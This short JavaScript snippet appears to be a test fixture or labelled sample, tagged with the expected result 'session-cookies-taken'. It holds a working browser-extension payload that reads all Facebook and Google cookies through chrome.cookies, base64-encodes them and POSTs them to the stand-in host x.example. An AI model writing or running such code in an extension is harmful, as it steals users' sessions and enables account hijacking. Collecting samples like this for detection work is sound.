// expect: session-cookies-taken
Promise.all(["facebook.com","google.com"].map(d=>chrome.cookies.getAll({domain:d}))).then(r=>fetch("https://x.example",{method:"POST",body:btoa(JSON.stringify(r))}));
